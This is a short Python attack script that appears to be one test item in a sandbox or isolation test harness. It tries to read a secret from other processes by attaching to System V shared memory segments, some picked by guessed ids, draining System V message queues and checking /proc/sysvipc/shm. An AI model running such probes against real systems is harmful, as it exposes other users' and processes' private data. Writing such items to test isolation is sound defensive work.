# title: take a secret out of System V shared memory and message queues
# kind: read
from attack import *
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
for segment in {libc.shmget(int(get("number")), 0, 0), int(get("segment")), *range(4)}:
    place = libc.shmat(segment, None, 0o10000)
    if segment >= 0 and place not in (None, 2**64 - 1):
        show(ctypes.string_at(place, int(get("size"))))
for queue in {libc.msgget(int(get("number")), 0), int(get("queue"))}:
    buffer = ctypes.create_string_buffer(256)
    if queue >= 0 and libc.msgrcv(queue, buffer, 200, 0, 0o4000 | 0o10000) > 0:  # IPC_NOWAIT, MSG_NOERROR
        show(buffer.raw)
show(read("/proc/sysvipc/shm") if get("number") in read("/proc/sysvipc/shm").decode() else b"")
